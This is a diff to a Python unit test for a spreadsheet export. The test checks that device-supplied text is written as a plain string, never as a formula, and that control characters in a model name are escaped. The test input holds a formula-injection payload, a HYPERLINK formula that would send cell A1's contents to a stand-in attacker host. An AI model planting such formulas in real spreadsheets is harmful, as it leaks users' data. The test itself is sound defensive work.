@@ -182,13 +182,13 @@ def test_workbook_has_a_summary_and_a_sheet_per_table(tmp_path: Path) -> None:
 def test_workbook_stores_device_text_as_text_never_as_formula(tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     pem = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n"
-    runs = [rf.run(serial=evil, dut={"serial": evil, "model": "bad\x00\x1bname", "public_key": pem})]
+    runs = [rf.run(serial=evil, dut={"serial": evil, "model": "bad\x00\x1bname\ufffe", "public_key": pem})]
     path = write_xlsx(tmp_path / "b.xlsx", export_tables(runs), runs, title=evil)
     sheet = openpyxl.load_workbook(path)["Runs"]
     header = [c.value for c in sheet[1]]
     serial = sheet[2][header.index("serial")]
     assert (serial.value, serial.data_type) == (evil, "s")
-    assert sheet[2][header.index("model")].value == "bad\\x00\\x1bname"
+    assert sheet[2][header.index("model")].value == "bad\\x00\\x1bname\\ufffe"
     assert sheet[2][header.index("public_key")].value == pem  # kept exactly, unlike in CSV
     assert openpyxl.load_workbook(path)["Summary"]["A1"].data_type == "s"
 
